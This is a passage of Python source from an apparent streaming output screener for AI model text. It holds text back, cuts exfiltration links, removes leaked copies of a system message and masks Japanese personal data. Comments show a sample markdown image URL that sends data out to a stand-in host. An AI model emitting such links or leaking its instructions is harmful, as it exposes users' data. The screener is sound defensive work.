                cut, next_look = min(waiting)
            cut = _outside(cut, a, values, links)
            if forced and cut <= a:
                cut = self._forced_cut(c, values, links)
        self._next_look = next_look
        if cut <= a and not (final or joint):
            return ""
        return self._release(
            cut, links, values, final=final, dangling=self._open_at_joint() if joint else ()
        )

    def _settles_at(self, f: Finding, c: int) -> int | None:
        """Where the context that may still change the verdict on ``f`` ends (None: it came).

        The detector weighs a contact with its line up to 16 characters after it; a name
        judged public (市長 …) or nobody's with cues anywhere in the text (相談 makes a record
        no publication), of which the 120 characters after it are awaited; an address
        followed by a word of a place (付近の市道) with its sentence."""
        t, b = self._text, self._base
        if f.type == "PERSON_NAME" and not f.personal:
            end = f.end + _SETTLE_LONG
            return end if c < end else None
        if "\n" in t[f.end - b : c - b]:
            return None
        end = f.end + _SETTLE
        if c < end:
            return end
        if f.type == "ADDRESS" and _PLACE_AFTER.search(t, f.end - b, end - b):
            if _SENTENCE_STOP.intersection(t[f.end - b : c - b]):
                return None
            end = f.end + _SETTLE_LONG
            return end if c < end else None
        return None

    def _forced_cut(
        self, c: int, values: list[Finding], links: list[tuple[int, int, str | None]]
    ) -> int:
        """Where to cut when max_hold characters are held: before the first hold that began
        after the release point, never inside a run of value characters; else everything.

        Open links count only from a quarter of ``max_hold`` on: a link begun in what is
        released is read on all the same (a straddle: what completes it is removed), and a
        stream of openers (``<img <img …``) would otherwise be released a few characters per
        look, each look screening everything held."""
        a = self._released
        later = [s for s, _ in self._open if s > a + self.max_hold // 4]
        later += [
            h
            for h in (self._run, self._place[0] if self._place else None, self._copy_hold())
            if h is not None and h > a
        ]
        later += [f.start for f in values if f.start > a and self._settles_at(f, c) is not None]
        cut = min(later, default=c)
        t, b = self._text, self._base
        if a < cut < c and _is_value(t[cut - b]) and _is_value(t[cut - 1 - b]):
            k = cut
            while k > a and cut - k < _VALUE_MAX and _is_value(t[k - 1 - b]):
                k -= 1
            if k > a and cut - k < _VALUE_MAX:
                cut = k
        cut = _outside(cut, a, values, links)
        return cut if cut > a else c

    def _release(
        self,
        cut: int,
        links: list[tuple[int, int, str | None]],
        values: list[Finding],
        *,
        final: bool,
        dangling: Sequence[tuple[int, int, str]] = (),
    ) -> str:
        scr, a, b = self.screen, self._released, self._base
        t_ = self._text
        edits: list[tuple[int, int, str]] = []
        found: list[OutputFinding] = []
        for s, e, gone in dangling:
            # A URL written right before it goes too: what is left of it would run on
            # into the notice and the next part (![x](https://h/?d=<img src=…|…) → an image).
            s = next((ls for ls, le, _ in links if le == s and ls >= a), s)
            if s not in self._cut_links and e > a:
                self._cut_links.append(s)
                found.append(scr._exfil_finding(max(s, a), e, gone, edits))
                p = max(s, a) - 1 - b
                if edits and edits[-1][2] == EXFIL_NOTICE and p >= 0 and not t_[p].isspace():
                    # (a URL released before it would run on into the notice and the next
                    # part: a space ends it)
                    edits[-1] = (edits[-1][0], edits[-1][1], " " + EXFIL_NOTICE)
        for s, e, host in links:
            if host is not None and a <= s < cut:
                found.append(scr._exfil_finding(s, min(e, cut), host, edits))
            elif host is not None and s < a < e:
                # Released in part (before a joint, or cut at max_hold): what of it comes
                # now is removed, so that it never works whole; reported once.
                if s in self._cut_links:
                    edits.append((a, min(e, cut), ""))
                else:
                    self._cut_links.append(s)
                    found.append(scr._exfil_finding(a, min(e, cut), host, edits))
        if scr.rules.system_prompt_leak == "remove":
            for s, e in self._copies:
                if e - s >= _MIN_LEAK and s < cut and e > a:
                    # (a copy already released in part: its notice went with its start)
                    edits.append((max(s, a), min(e, cut), LEAK_NOTICE if s >= a else ""))
        for f in values:
            if f.start < cut and f.end > a and scr._is_new(f):
                s, e = max(f.start, a), min(f.end, cut)
                if any(x < f.end and f.start < y for x, y in self._reported):
                    # Cut at max_hold earlier and reported then: mask what is left of it.
                    scr._personal_finding(s, e, f.type, edits)
                    continue
                self._reported.append((f.start, f.end))
                act = scr._personal_finding(s, e, f.type, edits)
                found.append(OutputFinding(act.kind, f.start, f.end, act.action, act.detail))
        out = _apply(self._text[a - b : cut - b], [(s - a, e - a, r) for s, e, r in edits])
        self._released = cut
        # A link still open across the release point (a joint, a cut at max_hold) is read
        # on; the looks that follow read it from its start until one has seen it closed.
        self._straddles = sorted(s for s, _ in self._open if s < cut)
        found += self._copies_over(final)
        self.findings += sorted(found, key=lambda f: (f.start, f.end))
        self._trim()
        return out

    def _copies_over(self, final: bool) -> list[OutputFinding]:
        """Copies of a system message that are over and released: reported, then forgotten."""
        out: list[OutputFinding] = []
        keep: list[tuple[int, int]] = []
        for s, e in self._copies:
            over = final or e < self._pend
            if not over:
                keep.append((s, e))
            elif e - s >= _MIN_LEAK:
                if e <= self._released:
                    out.append(self.screen._leak_finding(s, e))
                else:
                    keep.append((s, e))
        self._copies = keep
        return out

    def _window_start(self) -> int:
        """Where a look's window begins: _CONTEXT characters before the release point, or
        just after a break or a space among the first of them."""
        a = self._released
        lo = max(0, a - _CONTEXT)
        if lo > 0:
            t, b = self._text, self._base
            m = _WORD_END.search(t, lo - b, lo + _CONTEXT - _CONTEXT_MIN - b)
            if m is not None:
                lo = m.end() + b
        return lo

    def _trim(self) -> None:
        keep_from = min([self._released - _CONTEXT, *(s for s, _ in self._open)])
        if keep_from - self._base > 4 * _CONTEXT:
            self._text = self._text[keep_from - self._base :]
            self._base = keep_from
            self._reported = [(s, e) for s, e in self._reported if e > keep_from]
            self._cut_links = [s for s in self._cut_links if s >= keep_from]


def _shifted(f: Finding, offset: int) -> Finding:
    return replace(f, start=f.start + offset, end=f.end + offset)


def _outside(
    cut: int, floor: int, values: list[Finding], links: list[tuple[int, int, str | None]]
) -> int:
    """``cut`` moved back to the start of any value or link it falls inside (those that
    begin before ``floor`` were released in part already and are not waited for)."""
    spans = [(f.start, f.end) for f in values] + [(s, e) for s, e, _ in links]
    moved = True
    while moved:
        moved = False
        for s, e in spans:
            if floor <= s < cut < e:
                cut, moved = s, True
    return cut


#: Characters a personal value is written with (digits of any script, Latin letters and
#: the signs of numbers and addresses, kanji, katakana of both widths, the marks that
#: stand for a redacted place: ○○区△△町): a held run is never cut inside a stretch of
#: them, or a value crossing the cut would be screened in two halves.
_VALUE_CHAR = re.compile(
    r"[0-9A-Za-z@._+\-‐－ー()（）\u3400-\u4dbf\u4e00-\u9fff\u30a0-\u30ff\uff10-\uff5a"
    r"\uff66-\uff9f\u3005〇○◯△□×]"
)
#: The longest value a cut backs off for; a longer stretch is cut where it must be.
_VALUE_MAX = 80


def _compact(s: str) -> str:
    return re.sub(r"[\s\u3000\-‐－ー()（）]", "", s)


def _apply(text: str, edits: list[tuple[int, int, str]]) -> str:
    """Replace the spans (the earliest, then the longest, wins); a span overlapping one
    replaced goes with it to its own end: never half of it left (a URL ending in the ``!``
    of an image after it left ``[図](https://…)``, a working link, once the URL went)."""
    if not edits:
        return text
    out: list[str] = []
    pos = 0
    for s, e, rep in sorted(edits, key=lambda x: (x[0], -(x[1] - x[0]))):
        if s < pos:
            pos = max(pos, e)
            continue
        out += [text[pos:s], rep]
        pos = e
    out.append(text[pos:])
    return "".join(out)
